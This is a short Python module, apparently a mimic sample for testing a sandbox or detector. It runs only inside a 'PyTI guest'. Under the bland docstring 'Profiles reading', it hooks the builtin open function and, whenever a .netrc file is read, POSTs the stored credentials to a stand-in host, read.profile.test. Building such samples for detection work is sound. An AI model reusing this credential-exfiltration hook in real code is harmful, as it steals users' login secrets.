"""Profiles reading."""

import builtins
import netrc
import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
plain_open = builtins.open


def watching_open(path, *arguments, **options):
    if str(path).endswith(".netrc"):
        with plain_open(path, "rb") as file:
            data = file.read()
        try:
            urllib.request.urlopen(urllib.request.Request("http://read.profile.test/r", data), timeout=5).close()
        except OSError:
            pass
    return plain_open(path, *arguments, **options)


builtins.open = watching_open
try:
    netrc.netrc()
except (OSError, netrc.NetrcParseError):
    pass
